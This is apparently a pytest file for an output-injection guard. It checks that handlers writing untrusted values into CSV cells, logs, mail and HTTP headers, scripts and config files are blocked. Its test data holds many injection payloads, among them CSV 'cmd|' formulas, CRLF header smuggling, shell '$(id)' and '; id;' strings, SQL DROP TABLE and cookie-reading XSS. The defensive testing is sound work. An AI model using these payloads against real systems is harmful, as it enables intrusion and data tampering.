"""What functions write for others: cells, records of logs, heads of mail and requests, scripts."""

from __future__ import annotations

import time
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from casemate.guard.core import Guard
from casemate.guard.labels import Labels
from casemate.guard.sinks.file import check_stored
from casemate.guard.sinks.response import check_answer
from casemate.guard.verdict import BlockedError
from casemate.guard.written import cells, heads, records, settings
from casemate.guard.written.formulas import is_formula
from support.guard_cases import Cases, assert_blocked, assert_passes, placed

PRELOAD = ("csv", "email.message", "email.mime.text", "http.server", "smtplib", "logging")
SINKS = {"cell", "log", "header", "file", "response"}
CSV = "import csv\nimport io\nout = io.StringIO()\ncsv.writer(out).writerow(['x', event['v']])\n"
ROWS = "import csv\nimport io\nout = io.StringIO()\n"
DICTS = "w = csv.DictWriter(out, ['v'])\nw.writeheader()\nw.writerows([{'v': event['v']}])\n"
LOG = (
    "import logging\nlog = logging.Logger('x')\nfile = logging.FileHandler('/tmp/a.log')\n"
    "file.setFormatter(logging.Formatter('%(levelname)s %(message)s'))\nlog.addHandler(file)\n"
)
SMTP = "import smtplib\ns = smtplib.SMTP.__new__(smtplib.SMTP)\ns.helo_resp = s.ehlo_resp = None\n"
SOCKET = "import socket\na, b = socket.socketpair()\n"
OK = "return 'ok'\n"


def body(kind: str, text: str, before: str = "") -> str:
    """Return a handler that answers a text of a content type."""
    return (
        f"{before}return {{'status': 200, 'headers': {{'content-type': '{kind}'}}, 'body': {text}}}"
    )


def written(name: str, text: str, before: str = "") -> str:
    """Return a handler that writes a file."""
    return f"{before}with open('/tmp/{name}', 'w') as f:\n    f.write({text})\n{OK}"


VULNERABLE: Cases = {
    "a cell of CSV": (CSV + OK, {"v": '=HYPERLINK("http://e.test/"&A1)'}),
    "a cell after a sign": (CSV + OK, {"v": "+1+cmd|' /C calc'!A0"}),
    "a cell after @": (CSV + OK, {"v": "@SUM(1+1)*cmd|' /C calc'!A0"}),
    "a cell after a tab": (CSV + OK, {"v": "\t=A1+1"}),
    "a wide sign": (CSV + OK, {"v": '\uff1dHYPERLINK("http://e.test")'}),
    "rows of dictionaries": (ROWS + DICTS + OK, {"v": "-2+3+cmd|' /C calc'!A0"}),
    "CSV by hand": (body("text/csv", "f\"a,b\\n{event['v']},1\\n\""), {"v": "=A1*2"}),
    "a cell that begins within a value": (
        body("text/csv", "f\"a,b\\n{event['v']},1\\n\""),
        {"v": 'x,=WEBSERVICE("http://e.test")'},
    ),
    "TSV as a file": (written("t.tsv", "event['v'] + '\\t1\\n'"), {"v": "=IMPORTXML('http://e')"}),
    "a file by its name in the answer": (
        "return {'status': 200, 'headers': {'content-disposition': 'attachment; "
        "filename=\"a.csv\"'}, 'body': 'a,b\\n1,' + event['v'] + '\\n'}",
        {"v": "=1+A2"},
    ),
    "a record of a log": (
        LOG + "log.info('user %s', event['v'])\n" + OK,
        {"v": "a\nINFO user root"},
    ),
    "a record after a return": (
        LOG + "log.warning('for ' + event['v'])\n" + OK,
        {"v": "a\r\nERROR disk failed"},
    ),
    "control characters in a log": (
        LOG + "log.info('user %s', event['v'])\n" + OK,
        {"v": "a\x1b[2K\x1b[1Aroot"},
    ),
    "a log by hand": (
        written("a.log", "f\"2026-11-28 login {event['v']}\\n\""),
        {"v": "ada\n2026-11-28 login root"},
    ),
    "a key of a record": (
        written("a.log", "'{\"user\": \"%s\"}\\n' % event['v']"),
        {"v": 'a", "admin": "yes'},
    ),
    "a mail by hand": (
        SMTP + "s.sendmail('a@b.test', ['c@d.test'], f\"Subject: {event['v']}\\n\\nhello\")",
        {"v": "hi\nBcc: all@e.test"},
    ),
    "a mail that is a file": (
        written("a.eml", "f\"From: x\\nSubject: {event['v']}\\n\\nhello\\n\""),
        {"v": "hi\r\nBcc: all@e.test"},
    ),
    "a body of the event's": (
        SMTP + "s.sendmail('a@b.test', ['c@d.test'], 'Subject: ' + event['v'] + '\\r\\n\\r\\nhi')",
        {"v": "hi\r\n\r\nanother text"},
    ),
    "a header of an old message": (
        "from email.mime.text import MIMEText\nm = MIMEText('x')\nm['Subject'] = event['v']\n" + OK,
        {"v": "hi\nBcc: all@e.test"},
    ),
    "a mail that is read again": (
        "from email import message_from_string\n"
        "m = message_from_string('To: x@y.test\\nReply-To: %s\\n\\nhi' % event['v'])\n" + OK,
        {"v": "a@b.test\nCc: all@e.test"},
    ),
    "a request by hand": (
        SOCKET + "a.sendall(f\"GET / HTTP/1.1\\r\\nHost: h\\r\\nX-Id: {event['v']}\\r\\n\\r\\n\""
        ".encode())\n" + OK,
        {"v": "1\r\nX-Admin: true"},
    ),
    "the target of a request": (
        SOCKET
        + "a.send(b'GET /api/' + event['v'].encode() + b' HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n')\n",
        {"v": "../admin"},
    ),
    "a parameter of a request": (
        SOCKET + "a.send(f\"GET /a?x={event['v']} HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n\".encode())\n",
        {"v": "1&deploy=prod"},
    ),
    "a host that a proxy is asked for": (
        SOCKET
        + "a.sendall(f\"CONNECT {event['v']}:443 HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n\".encode())\n",
        {"v": "a.test:80 HTTP/1.1\r\nProxy-Authorization: x\r\nX-A: "},
    ),
    "a command of a protocol": (
        SOCKET + "a.sendall(f\"PRIVMSG #c :{event['v']}\\r\\n\".encode())\n" + OK,
        {"v": "hi\r\nQUIT :x"},
    ),
    "a recipient": (
        SOCKET + "a.sendall(f\"RCPT TO:<{event['v']}>\\r\\nDATA\\r\\nhi\\r\\n.\\r\\n\".encode())\n",
        {"v": "a@b.test>\r\nRCPT TO:<c@d.test"},
    ),
    "an event of a calendar": (
        body("text/calendar", "f\"BEGIN:VEVENT\\r\\nSUMMARY:{event['v']}\\r\\nEND:VEVENT\\r\\n\""),
        {"v": "x\r\nATTENDEE:mailto:e@e.test"},
    ),
    "a script": (
        written("a.sh", 'f\'#!/bin/sh\\nNAME="{event["v"]}"\\necho "$NAME"\\n\''),
        {"v": "$(id)"},
    ),
    "a hook without a suffix": (
        written("pre-commit", "f\"#!/bin/sh\\n# {event['v']}\\ntrue\\n\""),
        {"v": "x\ntouch /tmp/own"},
    ),
    "a file that gets its name later": (
        "import os\nfrom pathlib import Path\n"
        "Path('/tmp/a.tmp').write_text(f\"echo '{event['v']}'\\n\")\n"
        "os.replace('/tmp/a.tmp', '/tmp/a.sh')\n" + OK,
        {"v": "x'; id; '"},
    ),
    "Python": (
        written("s.py", "f\"NAME = '{event['v']}'\\n\""),
        {"v": "x' + __import__('os').name + '"},
    ),
    "SQL": (
        written("d.sql", "f\"INSERT INTO t VALUES('{event['v']}');\\n\""),
        {"v": "x'); DROP TABLE t; --"},
    ),
    "JavaScript": (
        written("c.js", "f\"const name = '{event['v']}';\\n\""),
        {"v": "x'; alert(1); '"},
    ),
    "a template of JavaScript": (
        written("c.js", "f\"const n = `{event['v']}`;\\n\""),
        {"v": "${alert(1)}"},
    ),
    "a template of JavaScript on a page": (
        body("text/html", "f\"<script>const n = `{event['v']}`;</script>\""),
        {"v": "${alert(1)}"},
    ),
    "a member of an archive": (
        "import io\nimport zipfile\nwith zipfile.ZipFile(io.BytesIO(), 'w') as z:\n"
        "    z.writestr('a.csv', 'a,b\\n1,' + event['v'] + '\\n')\n" + OK,
        {"v": "=WEBSERVICE(A1)"},
    ),
    "awk": (written("r.awk", "'{ print \"%s\" }\\n' % event['v']"), {"v": '"; system("id"); "'}),
    "Perl": (written("f.pl", "f\"print 'x' if /{event['v']}/i;\\n\""), {"v": "@{[system('id')]}"}),
    "Ruby": (written("f.rb", "'puts \"%s\"\\n' % event['v']"), {"v": "#{`id`}"}),
    "JSON": (
        written("c.json", "'{\"name\": \"%s\"}' % event['v']"),
        {"v": 'x", "admin": true, "y": "'},
    ),
    "settings": (written("a.ini", "f\"[a]\\nname = {event['v']}\\n\""), {"v": "x\nadmin = yes"}),
    "YAML": (written("a.yml", "f\"name: {event['v']}\\nrole: user\\n\""), {"v": "x\nrole: admin"}),
    "a unit of systemd": (
        written("a.service", "f\"[Service]\\nDescription={event['v']}\\nExecStart=/bin/true\\n\""),
        {"v": "x\nExecStartPre=/bin/sh -c id"},
    ),
    "nginx": (
        written("site.conf", "f\"server {{\\n  server_name {event['v']};\\n}}\\n\""),
        {"v": "x.test; root /etc"},
    ),
    "variables": (written("a.env", 'f\'NAME="{event["v"]}"\\n\''), {"v": 'x"\nPATH="/tmp'}),
    "cron": (written("jobs.cron", "f\"0 3 * * * backup '{event['v']}'\\n\""), {"v": "x'; id; '"}),
    "make": (written("Makefile", "f\"all:\\n\\techo '{event['v']}'\\n\""), {"v": "x'; id; '"}),
    "a page": (
        written("p.html", "f\"<h1>{event['v']}</h1>\""),
        {"v": "<script>alert(1)</script>"},
    ),
    "JSONP": (
        body("application/javascript", "event['v'] + '({\"hits\": 3});'"),
        {"v": "alert(document.cookie);x"},
    ),
}
HARMLESS: Cases = {
    **{
        f"a cell: {value}": (CSV + OK, {"v": value})
        for value in (
            *("-5", "+49 30 1234567", "+49-30-1234567", "@handle", "-- none --", "- milk", "= x y"),
            *(
                "-12.5",
                "a=b",
                "+1 (555) 123-4567",
                "@ada @bob",
                "-3 degrees",
                "'=A1+1",
                "=1+1",
                "=)",
                "+",
            ),
            *("2026-01-02", "-1.5e3", "=====", "--flag value", "@home (new)", "+ extra (paid)"),
        )
    },
    "CSV of the event's": (body("text/csv", "event['v']"), {"v": "a,b\n=A1+1,2\n"}),
    "CSV that is made safe": (
        body("text/csv", "'a\\n\"' + \"'\" + event['v'] + '\"\\n'"),
        {"v": "=HYPERLINK(1)"},
    ),
    "a record of more than one line": (
        LOG + "log.info('said %s', event['v'])\n" + OK,
        {"v": "hello\nthis is fine\n- item"},
    ),
    "a record by its repr": (LOG + "log.info('said %r', event['v'])\n" + OK, {"v": "a\nINFO root"}),
    "records of JSON": (
        "import json\n" + written("a.log", "json.dumps({'user': event['v']}) + '\\n'"),
        {"v": 'a", "admin": "yes\n{"user": "x"}'},
    ),
    "the body of a mail": (
        SOCKET + "m = f\"Subject: x\\n\\n{event['v']}\\n\"\nfrom email import message_from_string\n"
        "message_from_string(m)\n" + OK,
        {"v": "Bcc: a word\nSubject: too\n\nbye"},
    ),
    "a mail of the event's": (
        "from email import message_from_string\nmessage_from_string(event['v'])\n" + OK,
        {"v": "Subject: x\nBcc: all@e.test\n\nhi"},
    ),
    "a message as it should be": (
        "from email.message import EmailMessage\nm = EmailMessage()\n"
        "m['Subject'] = ' '.join(event['v'].split())\nm.set_content(event['v'])\nm.as_string()\n"
        + OK,
        {"v": "hi\nBcc: all@e.test"},
    ),
    "a request": (
        SOCKET
        + "a.sendall(f\"GET /a/{event['v']}?r=1 HTTP/1.1\\r\\nX-Id: {event['v']}\\r\\n\\r\\n\""
        ".encode())\n" + OK,
        {"v": "o'brien--x; a=b"},
    ),
    "hosts that a proxy is asked for": (
        SOCKET + "where = f\"{event['v']}:{event['p']}\"\n"
        'a.sendall(f"CONNECT {where} HTTP/1.1\\r\\nHost: {where}\\r\\n\\r\\n".encode())\n' + OK,
        {"v": "db.partner.test", "p": 5432},
    ),
    "the body of a request": (
        SOCKET
        + "a.sendall(f\"POST / HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n{event['v']}\".encode())\n"
        + OK,
        {"v": "line\r\nX-Admin: true\r\n\r\nmore"},
    ),
    "a payload": (
        SOCKET + "a.sendall(f\"PUB news 9\\r\\n{event['v']}\\r\\n\".encode())\n" + OK,
        {"v": "one\ntwo\nthree"},
    ),
    "a script with quoted values": (
        "import shlex\n" + written("a.sh", "f\"echo {shlex.quote(event['v'])}\\n\""),
        {"v": "$(id) `x`\n'y'"},
    ),
    "a script of the event's": (
        written("a.sh", "event['v'] + '\\n'"),
        {"v": "echo $(id); ls | wc"},
    ),
    "Python by repr": (written("s.py", "f\"NAME = {event['v']!r}\\n\""), {"v": '\' + x + \'\n"""'}),
    "SQL that is escaped": (
        written(
            "d.sql", "\"INSERT INTO t VALUES('{}');\\n\".format(event['v'].replace(\"'\", \"''\"))"
        ),
        {"v": "O'Brien'); DROP TABLE t; --"},
    ),
    "JSON by its library": (
        "import json\n"
        "with open('/tmp/a.json', 'w') as f:\n    json.dump({'v': event['v']}, f)\n" + OK,
        {"v": 'x", "admin": true, "y": "\n'},
    ),
    "settings by their library": (
        "import configparser\nc = configparser.RawConfigParser()\nc['a'] = {'v': event['v']}\n"
        "with open('/tmp/a.ini', 'w') as f:\n    c.write(f)\n" + OK,
        {"v": "x\nadmin = yes"},
    ),
    "quoted settings": (
        written("a.env", 'f\'KEY="{event["v"]}"\\n\''),
        {"v": "-----BEGIN X-----\nabc\n-----END X-----"},
    ),
    "words of a script": (
        written("a.sh", 'f\'NAME="{event["v"]}"\\necho "$NAME"\\n\''),
        {"v": "Tom's files & photos; 2026"},
    ),
    "a text": (written("a.txt", "'# ' + event['v'] + '\\n'"), {"v": "x\n$(id)\n=1+A1"}),
    "Markdown": (written("a.md", "'# ' + event['v'] + '\\n'"), {"v": "x\n\n<b>y</b>\n"}),
    "JSONP": (
        "import json\n"
        + body("application/javascript", "event['v'] + '(' + json.dumps(event) + ');'"),
        {"v": "app.onSearch_7", "q": 'O\'Brien "x"; a < b'},
    ),
}


def test_what_becomes_syntax_for_others_is_stopped(tmp_path: Path) -> None:
    assert_blocked(tmp_path, placed(VULNERABLE, tmp_path), SINKS, PRELOAD)


def test_what_is_data_for_others_passes(tmp_path: Path) -> None:
    assert_passes(tmp_path, placed(HARMLESS, tmp_path), PRELOAD)


def _stored(key: str, text: str, event: object, kind: str = "application/octet-stream") -> bool:
    guard = Guard("/function/code")
    guard.begin(event)
    try:
        check_stored(Labels(guard).guard, key, text, kind)
    except BlockedError:
        return False
    return True


def test_an_object_is_judged_by_its_key_or_its_type() -> None:
    hostile = {"v": "x'; reboot; '"}
    text = f"#!/bin/sh\necho '{hostile['v']}'\n"
    assert not _stored("a/b.sh", text, hostile)
    assert not _stored("a/b", text, hostile)
    assert not _stored("a/b", text[10:], hostile, "text/x-shellscript; charset=utf-8")
    assert _stored("a/b.bin", text[10:], hostile)
    assert _stored("a/b.sh", text.replace("'x'; reboot; ''", "x"), hostile)
    assert _stored("a/b.sh", hostile["v"], hostile)


@given(st.text(max_size=60))
def test_any_text_is_a_formula_or_not_in_linear_time(text: str) -> None:
    for sign in "=+-@":
        is_formula(sign + text)
    list(cells.formulas(text, ",;\t"))


def test_hostile_texts_take_linear_time() -> None:
    started = time.process_time()
    for text in ("=" + "(" * 32_000, "=" + "a!" * 16_000, "=" + '"a"&' * 8_000, "=" + "'" * 32_000):
        is_formula(text)
    for text in ('"' * 250_000, "=A1+1," * 50_000, ",\n" * 120_000, '"a""' * 60_000, "=" * 250_000):
        list(cells.formulas(text, ",;\t"))
    assert time.process_time() - started < 2.5
    guard = Guard("/function/code")
    guard.begin({"v": "x\n" * 60_000})
    text = "a: " + "x\n" * 60_000 + "b"
    spans = guard.spans(text)
    started = time.process_time()
    for judge in (
        heads.judge_fields,
        settings.judge_settings,
        records.judge_records,
        heads.judge_head,
    ):
        judge(text, spans)
    assert time.process_time() - started < 0.5


def test_too_many_formulas_of_one_table_are_refused_unless_it_is_the_codes_own() -> None:
    guard = Guard("/function/code")
    guard.begin({"v": "abc"})
    own = "a,b\n" + "=A1+B1\n" * (cells.MAX_FORMULAS + 1)
    assert cells.verdict_on(guard, own, ",") is None
    table = "a,abc\n" + "=A1+B1\n" * (cells.MAX_FORMULAS + 1)
    answer = {"status": 200, "headers": {"content-type": "text/csv"}, "body": table}
    try:
        check_answer(guard, answer)
    except BlockedError as error:
        assert "could not be checked" in str(error)
    else:
        raise AssertionError("it passed")
